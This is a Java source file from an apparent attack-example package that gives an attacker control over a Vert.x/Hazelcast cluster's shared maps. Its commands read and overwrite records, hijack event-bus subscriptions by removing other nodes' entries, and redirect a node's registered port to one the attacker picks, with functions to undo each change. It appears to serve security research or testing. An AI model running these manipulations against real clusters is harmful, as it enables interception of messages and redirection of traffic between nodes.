// SPDX-License-Identifier: Apache-2.0
package dev.latchkey.examples.attack;

import com.hazelcast.core.HazelcastInstance;
import com.hazelcast.map.IMap;
import com.hazelcast.multimap.MultiMap;
import dev.latchkey.examples.node.NodeCommands;
import io.vertx.core.Future;
import io.vertx.core.buffer.Buffer;
import io.vertx.core.internal.VertxInternal;
import io.vertx.core.json.JsonArray;
import io.vertx.core.json.JsonObject;
import io.vertx.core.shareddata.AsyncMap;
import io.vertx.core.spi.cluster.NodeInfo;
import io.vertx.spi.cluster.hazelcast.HazelcastClusterManager;
import io.vertx.spi.cluster.hazelcast.impl.HazelcastNodeInfo;
import io.vertx.spi.cluster.hazelcast.impl.HazelcastRegistrationInfo;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import java.util.concurrent.ConcurrentHashMap;

/** The attacker's hand in the cluster's maps: Latchkey's, and those by which Vert.x finds nodes and subscribers. */
final class ClusterMaps {
    private static final String SUBSCRIPTIONS = "__vertx.subs";
    private static final String NODES = "__vertx.nodeInfo";

    private final VertxInternal vertx;
    private final Map<String, Object> kept = new ConcurrentHashMap<>();

    ClusterMaps(VertxInternal vertx) {
        this.vertx = vertx;
    }

    String nodeId() {
        return vertx.clusterManager().getNodeId();
    }

    Future<JsonObject> handle(String command, JsonObject arguments) {
        return switch (command) {
            case "keep" -> keep(arguments);
            case "put" -> put(arguments, Buffer.buffer(arguments.getBinary("bytes")));
            case "putBack" -> putBack(arguments);
            case "remove" -> record(arguments).map(found -> new JsonObject());
            case "keys" -> keys(arguments);
            case "size" -> map(arguments).compose(AsyncMap::size).map(size -> new JsonObject().put("size", size));
            case "stealSubscriptions" -> blocking(() -> stealSubscriptions(arguments.getString("address")));
            case "returnSubscriptions" -> blocking(() -> returnSubscriptions(arguments.getString("address")));
            case "moveNode" -> blocking(() -> moveNode(arguments.getString("node"), arguments.getInteger("port")));
            case "returnNode" -> blocking(() -> returnNode(arguments.getString("node")));
            default -> NodeCommands.unknown(command);
        };
    }

    private Future<AsyncMap<String, Object>> map(JsonObject arguments) {
        return vertx.sharedData().getAsyncMap(arguments.getString("map"));
    }

    /** Remembers a record as it is, and shows its bytes. */
    private Future<JsonObject> keep(JsonObject arguments) {
        String key = arguments.getString("key");
        return map(arguments).compose(map -> map.get(key)).map(found -> {
            if (found == null) {
                return new JsonObject();
            }
            kept.put(arguments.getString("map") + "/" + key, found);
            return new JsonObject().put("bytes", ((Buffer) found).getBytes());
        });
    }

    private Future<JsonObject> put(JsonObject arguments, Object value) {
        return map(arguments)
                .compose(map -> map.put(arguments.getString("key"), value))
                .map(done -> new JsonObject());
    }

    private Future<JsonObject> putBack(JsonObject arguments) {
        Object value = kept.get(arguments.getString("map") + "/" + arguments.getString("key"));
        return value == null ? Future.failedFuture("nothing was kept") : put(arguments, value);
    }

    private Future<?> record(JsonObject arguments) {
        return map(arguments).compose(map -> map.remove(arguments.getString("key")));
    }

    private Future<JsonObject> keys(JsonObject arguments) {
        return map(arguments).compose(AsyncMap::keys).map(keys -> new JsonObject()
                .put("keys", new JsonArray(List.copyOf(keys))));
    }

    private Future<JsonObject> blocking(Runnable change) {
        return vertx.executeBlocking(() -> {
            change.run();
            return new JsonObject();
        });
    }

    private HazelcastInstance hazelcast() {
        return ((HazelcastClusterManager) vertx.clusterManager()).getHazelcastInstance();
    }

    /** Leaves the attacker as the only subscriber of an address. */
    private void stealSubscriptions(String address) {
        MultiMap<String, HazelcastRegistrationInfo> all = hazelcast().getMultiMap(SUBSCRIPTIONS);
        List<HazelcastRegistrationInfo> others = all.get(address).stream()
                .filter(entry -> !entry.unwrap().nodeId().equals(nodeId()))
                .toList();
        kept.put(address, others);
        others.forEach(entry -> all.remove(address, entry));
    }

    @SuppressWarnings("unchecked") // What stealSubscriptions kept.
    private void returnSubscriptions(String address) {
        MultiMap<String, HazelcastRegistrationInfo> all = hazelcast().getMultiMap(SUBSCRIPTIONS);
        ((List<HazelcastRegistrationInfo>) Objects.requireNonNull(kept.get(address)))
                .forEach(entry -> all.put(address, entry));
    }

    /** Has all who connect to a node from now on connect to a port of the attacker's choice. */
    private void moveNode(String node, int port) {
        IMap<String, HazelcastNodeInfo> nodes = hazelcast().getMap(NODES);
        HazelcastNodeInfo before = Objects.requireNonNull(nodes.get(node));
        kept.put(node, before);
        NodeInfo old = before.unwrap();
        nodes.put(node, new HazelcastNodeInfo(new NodeInfo(old.host(), port, old.metadata())));
    }

    private void returnNode(String node) {
        hazelcast().<String, HazelcastNodeInfo>getMap(NODES).put(node, (HazelcastNodeInfo) kept.get(node));
    }
}
